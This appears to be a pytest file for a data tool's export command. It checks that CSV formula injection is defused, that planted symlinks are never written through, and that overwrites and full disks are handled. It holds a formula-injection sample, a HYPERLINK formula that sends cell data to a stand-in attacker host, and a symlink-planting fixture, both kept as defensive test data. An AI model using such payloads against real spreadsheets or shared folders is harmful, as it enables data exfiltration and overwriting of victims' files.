"""`qt export` with hostile targets and contents (issue 12, cases 2, 4, 6, 7) and the export points
of issue 14 (format from the name, stdout, --excel, booleans, normalised values, full-text search)."""

from __future__ import annotations

import csv
import errno
import json
import os
import sqlite3
import stat
from pathlib import Path

import pytest
from typer.testing import CliRunner

from qtcli.cli.app import app
from qtcli.present import export as exporting

from .test_broken_factbase import edit, make_base

runner = CliRunner()
VICTIM_TEXT = "export PATH=/usr/bin  # the victim's own file\n"


def export(*args: str) -> tuple[int, str]:
    done = runner.invoke(app, ["export", *args, "--lang", "en"])
    return done.exit_code, done.stderr


def leftovers(folder: Path) -> list[str]:
    """Temporary files or folders of an export: their names start with a dot."""
    return sorted(p.name for p in folder.iterdir() if p.name.startswith("."))


@pytest.fixture(scope="module")
def shipped_db(tmp_path_factory: pytest.TempPathFactory) -> sqlite3.Connection:
    out = tmp_path_factory.mktemp("db") / "qt.db"
    code, err = export(str(out))
    assert code == 0, err
    conn = sqlite3.connect(out)
    conn.row_factory = sqlite3.Row
    return conn


# ------------------------------------------------------------ case 2: formula injection

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_csv_cells_that_would_run_as_formulas_are_defused(tmp_path: Path) -> None:
    facts, _ = make_base(tmp_path)
    edit("entities.toml", 'en = "Zhongce Rubber"', f"en = '{HOSTILE_NAME}'")(facts)
    edit(
        "entities.toml",
        'level = "district"',
        'level = "district"\nnote = { zh = "@SUM(1+1)", en = "@SUM(1+1)" }',
    )(facts)
    code, err = export(str(tmp_path / "out"), "--facts", str(facts))
    assert code == 0, err
    with (tmp_path / "out" / "entities.csv").open(encoding="utf-8", newline="") as handle:
        rows = {r["id"]: r for r in csv.DictReader(handle)}
    assert rows["c1"]["name_en"] == "'" + HOSTILE_NAME
    assert rows["r1"]["note_zh"] == "'@SUM(1+1)"
    # SQLite and JSON Lines keep the text as it is.
    assert export(str(tmp_path / "x.db"), "--facts", str(facts))[0] == 0
    conn = sqlite3.connect(tmp_path / "x.db")
    assert conn.execute("SELECT name_en FROM entities WHERE id='c1'").fetchone() == (HOSTILE_NAME,)
    assert export(str(tmp_path / "x.jsonl"), "--facts", str(facts))[0] == 0
    lines = (tmp_path / "x.jsonl").read_text(encoding="utf-8").splitlines()
    assert any(json.loads(line).get("name_en") == HOSTILE_NAME for line in lines)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "＝"])
def test_every_formula_start_gets_an_apostrophe(start: str) -> None:
    assert exporting.csv_cell(f"{start}1+2") == f"'{start}1+2"


@pytest.mark.parametrize("value", [-5, -0.5, 3, "中策橡胶", "R&D 4.43%", "", None])
def test_numbers_and_ordinary_text_are_left_alone(value: object) -> None:
    assert exporting.csv_cell(value) == value


# ------------------------------------------------------- case 4: planted symlinks


@pytest.fixture
def pub(tmp_path: Path) -> tuple[Path, Path]:
    """A world-writable folder with a link planted at every temporary name qt ever used."""
    victim = tmp_path / "bashrc"
    victim.write_text(VICTIM_TEXT)
    folder = tmp_path / "pub"
    folder.mkdir()
    folder.chmod(0o777)
    for name in ("sources.csv.tmp", "qt.db.tmp", "out.tmp", "x.jsonl.tmp"):
        (folder / name).symlink_to(victim)
    return folder, victim


@pytest.mark.parametrize("name", ["out", "qt.db", "x.jsonl"])
def test_export_never_writes_through_a_planted_link(pub: tuple[Path, Path], name: str) -> None:
    folder, victim = pub
    code, err = export(str(folder / name))
    assert code == 0, err
    assert victim.read_text() == VICTIM_TEXT
    assert not (folder / name).is_symlink()
    assert sorted(p.name for p in folder.iterdir() if p.is_symlink()) == [
        "out.tmp",
        "qt.db.tmp",
        "sources.csv.tmp",
        "x.jsonl.tmp",
    ]


@pytest.mark.parametrize("force", [[], ["--force"]])
def test_out_itself_a_link_is_refused(pub: tuple[Path, Path], force: list[str]) -> None:
    folder, victim = pub
    (folder / "qt.db").symlink_to(victim)
    code, err = export(str(folder / "qt.db"), *force)
    assert (
        code == 5
        and err == f"qt: '{folder / 'qt.db'}' is a symbolic link; qt writes only to a real path\n"
    )
    assert victim.read_text() == VICTIM_TEXT


def test_exporting_into_the_planted_folder_itself_is_refused(pub: tuple[Path, Path]) -> None:
    folder, victim = pub
    code, err = export(str(folder))
    assert code == 5 and "is a folder that is not empty; add --force" in err
    code, err = export(str(folder), "--force")
    assert code == 5 and "holds files that are not a qt export" in err
    assert victim.read_text() == VICTIM_TEXT


# -------------------------------------------------------------- case 6: overwrites


def test_an_existing_database_is_kept_without_force(tmp_path: Path) -> None:
    db = tmp_path / "existing.db"
    db.write_bytes(b"precious")
    code, err = export("--format", "sqlite", str(db))
    assert (code, err) == (5, f"qt: '{db}' exists; add --force to replace it\n")
    assert db.read_bytes() == b"precious"
    assert export("--format", "sqlite", str(db), "--force")[0] == 0
    assert sqlite3.connect(db).execute("SELECT count(*) FROM sources").fetchone()[0] > 0
    assert leftovers(tmp_path) == []


def test_an_existing_folder_is_kept_without_force(tmp_path: Path) -> None:
    out = tmp_path / "out"
    assert export(str(out))[0] == 0
    (out / "sources.csv").write_text("old")
    code, err = export(str(out))
    assert code == 5 and "is a folder that is not empty" in err
    assert (out / "sources.csv").read_text() == "old"
    assert export(str(out), "--force")[0] == 0
    assert (out / "sources.csv").read_text(encoding="utf-8").startswith("id,file,sha256")
    assert leftovers(tmp_path) == []


def test_an_empty_folder_is_used(tmp_path: Path) -> None:
    (tmp_path / "out").mkdir()
    assert export(str(tmp_path / "out"))[0] == 0
    assert (tmp_path / "out" / "facts.csv").is_file()


@pytest.mark.parametrize("kind", ["fifo", "device", "socket"])
def test_a_special_file_is_never_replaced_even_with_force(tmp_path: Path, kind: str) -> None:
    target = tmp_path / "target.db"
    if kind == "fifo":
        os.mkfifo(target)
    elif kind == "device":
        if os.geteuid() != 0:
            pytest.skip("creating a device node needs root")
        os.mknod(target, 0o666 | stat.S_IFCHR, os.makedev(1, 7))  # a copy of /dev/full
    else:
        import socket

        sock = socket.socket(socket.AF_UNIX)
        sock.bind(str(target))
    before = os.lstat(target).st_mode
    for force in ([], ["--force"]):
        code, err = export("--format", "sqlite", str(target), *force)
        assert code == 5 and "is not a regular file or folder; qt never replaces it" in err
    assert os.lstat(target).st_mode == before
    assert leftovers(tmp_path) == []


# ----------------------------------------------------------- case 7: half exports


def _no_space(*args: object, **kwargs: object) -> None:
    raise OSError(errno.ENOSPC, "No space left on device")


def test_a_full_disk_during_csv_leaves_the_previous_export(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "out"
    assert export(str(out))[0] == 0
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    written = []

    def fourth_table_fills_the_disk(rows, handle):  # type: ignore[no-untyped-def]
        written.append(1)
        if len(written) == 4:
            _no_space()
        real_write_csv(rows, handle)

    real_write_csv = exporting._write_csv
    monkeypatch.setattr(exporting, "_write_csv", fourth_table_fills_the_disk)
    code, err = export(str(out), "--force")
    assert (code, err) == (
        5,
        f"qt: cannot write '{out}': No space left on device; nothing was changed\n",
    )
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before
    assert leftovers(tmp_path) == []


def test_a_full_disk_during_sqlite_leaves_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def disk_full(*args: object) -> None:
        raise sqlite3.OperationalError("database or disk is full")

    monkeypatch.setattr(exporting, "_fts", disk_full)
    code, err = export(str(tmp_path / "x.db"))
    assert (code, err) == (
        5,
        f"qt: cannot write '{tmp_path / 'x.db'}': database or disk is full; nothing was changed\n",
    )
    assert list(tmp_path.iterdir()) == []


def test_a_missing_parent_folder_is_one_sentence(tmp_path: Path) -> None:
    for name in ("nope/x.db", "nope/out", "nope/x.jsonl"):
        code, err = export(str(tmp_path / name))
        assert (code, err) == (
            5,
            f"qt: cannot write '{tmp_path / name}': the folder '{tmp_path / 'nope'}' does not exist\n",
        )
    assert list(tmp_path.iterdir()) == []


# ---------------------------------------------------------- issue 14: export points


@pytest.mark.parametrize(
    ("name", "kind"),
    [("qt.db", "sqlite"), ("qt.SQLite", "sqlite"), ("x.jsonl", "jsonl"), ("out", "csv")],
)
def test_the_format_follows_the_name(tmp_path: Path, name: str, kind: str) -> None:
    out = tmp_path / name
    assert export(str(out))[0] == 0
    if kind == "sqlite":
        assert out.read_bytes().startswith(b"SQLite format 3\x00")
    elif kind == "jsonl":
        tables = {
            json.loads(line)["table"] for line in out.read_text(encoding="utf-8").splitlines()
        }
        assert tables == {"observations", "entities", "facts", "metrics", "sources"}
    else:
        assert sorted(p.name for p in out.iterdir()) == [
            "entities.csv",
            "facts.csv",
            "metrics.csv",
            "observations.csv",
            "sources.csv",
        ]


def test_dash_writes_json_lines_to_stdout(tmp_path: Path) -> None:
    done = runner.invoke(app, ["export", "-"])
    assert done.exit_code == 0, done.stderr
    rows = [json.loads(line) for line in done.stdout.splitlines()]
    assert rows[0]["table"] == "observations" and rows[-1]["table"] == "sources"
    assert not (Path.cwd() / "-").exists()


def test_excel_csv_starts_with_a_byte_order_mark(tmp_path: Path) -> None:
    assert export(str(tmp_path / "out"), "--excel")[0] == 0
    assert (tmp_path / "out" / "entities.csv").read_bytes().startswith(b"\xef\xbb\xbfid,")
    assert export(str(tmp_path / "plain"))[0] == 0
    assert (tmp_path / "plain" / "entities.csv").read_bytes().startswith(b"id,")
    assert export(str(tmp_path / "x.db"), "--excel")[0] == 2


def test_booleans_are_the_same_in_every_format(tmp_path: Path, shipped_db) -> None:  # type: ignore[no-untyped-def]
    assert export(str(tmp_path / "out"))[0] == 0
    assert export(str(tmp_path / "x.jsonl"))[0] == 0
    with (tmp_path / "out" / "observations.csv").open(encoding="utf-8", newline="") as handle:
        csv_rows = {r["key"]: r for r in csv.DictReader(handle)}
    json_rows = {
        r["key"]: r
        for r in map(json.loads, (tmp_path / "x.jsonl").read_text(encoding="utf-8").splitlines())
        if r["table"] == "observations"
    }
    db_rows = {r["key"]: dict(r) for r in shipped_db.execute("SELECT * FROM observations")}
    for column in ("misprint", "conflict"):
        assert {r[column] for r in csv_rows.values()} == {"true", "false"}
        assert {r[column] for r in json_rows.values()} == {True, False}
        assert {r[column] for r in db_rows.values()} == {1, 0}
        for key, row in json_rows.items():
            assert csv_rows[key][column] == ("true" if row[column] else "false")
            assert db_rows[key][column] == int(row[column])


def test_values_are_normalised_to_the_metrics_unit(shipped_db) -> None:  # type: ignore[no-untyped-def]
    rows = shipped_db.execute(
        "SELECT o.value, o.unit, o.value_normalised, o.unit_normalised, m.unit AS metric_unit"
        " FROM observations o JOIN metrics m ON m.id = o.metric_id"
    ).fetchall()
    assert all(r["unit_normalised"] == r["metric_unit"] for r in rows)
    same = [r for r in rows if r["unit"] == r["metric_unit"]]
    assert same and all(r["value_normalised"] == r["value"] for r in same)
    wan = [r for r in rows if r["unit"] == "万元" and r["metric_unit"] == "亿元"]
    assert wan and all(r["value_normalised"] == pytest.approx(r["value"] / 10_000) for r in wan)
    dollars = [r for r in rows if r["unit"] == "亿美元" and r["metric_unit"] == "亿元"]
    assert dollars and all(r["value_normalised"] is None for r in dollars)
    assert exporting.normalised(55.3, "万元", "亿元") == 0.00553
    assert exporting.normalised(3, "个", "家") == 3


@pytest.mark.parametrize(
    ("table", "query", "expected"),
    [
        ("search", "中策", "zhongce-rubber"),
        ("search", "钱塘", "qiantang"),
        ("search", "松下马达", "panasonic-motor-hangzhou"),
        ("entities_fts", "中策", "zhongce-rubber"),
        ("entities_fts", "中策橡胶", "zhongce-rubber"),
        ("entities_fts", "Zhongce", "zhongce-rubber"),
        ("entities_fts", "橡胶", "zhongce-rubber"),  # inside a name, not an alias
    ],
)
def test_full_text_search_finds_two_character_names(
    shipped_db, table: str, query: str, expected: str
) -> None:  # type: ignore[no-untyped-def]
    if table == "search":
        sql = "SELECT id FROM search WHERE search MATCH ?"
    else:
        sql = (
            f"SELECT e.id FROM entities e JOIN {table} f ON f.rowid = e.rowid WHERE {table} MATCH ?"
        )
    assert expected in [r[0] for r in shipped_db.execute(sql, (query,))]


# Datasette's own detection (datasette/utils/__init__.py, detect_fts_sql) and its ?_search=
# clause, which quotes each word (escape_fts): '中策' is searched as the phrase "中策".
DETECT_FTS = """select name from sqlite_master where rootpage = 0 and (
    sql like '%VIRTUAL TABLE%USING FTS%content="{table}"%'
    or (tbl_name = "{table}" and sql like '%VIRTUAL TABLE%USING FTS%'))"""
SEARCH = "select * from {table} where rowid in (select rowid from {fts} where {fts} match ?)"


@pytest.mark.parametrize(
    ("table", "query", "column", "expected"),
    [
        ("entities", '"中策"', "id", "zhongce-rubber"),
        ("entities", '"钱塘"', "id", "qiantang"),
        ("facts", '"中策"', "subject_id", "zhongce-rubber"),
        ("facts", '"子午胎"', "subject_id", "zhongce-rubber"),
        ("observations", '"钱塘"', "subject_id", "qiantang"),
        ("observations", '"R&D经费投入强度"', "metric_id", "rd-intensity"),
    ],
)
def test_datasette_search_works_on_entities_facts_and_observations(
    shipped_db, table: str, query: str, column: str, expected: str
) -> None:  # type: ignore[no-untyped-def]
    (fts,) = [r[0] for r in shipped_db.execute(DETECT_FTS.format(table=table))]
    assert fts == f"{table}_fts"
    rows = shipped_db.execute(SEARCH.format(table=table, fts=fts), (query,)).fetchall()
    total = shipped_db.execute(f"select count(*) from {table}").fetchone()[0]
    assert expected in [r[column] for r in rows] and 0 < len(rows) < total
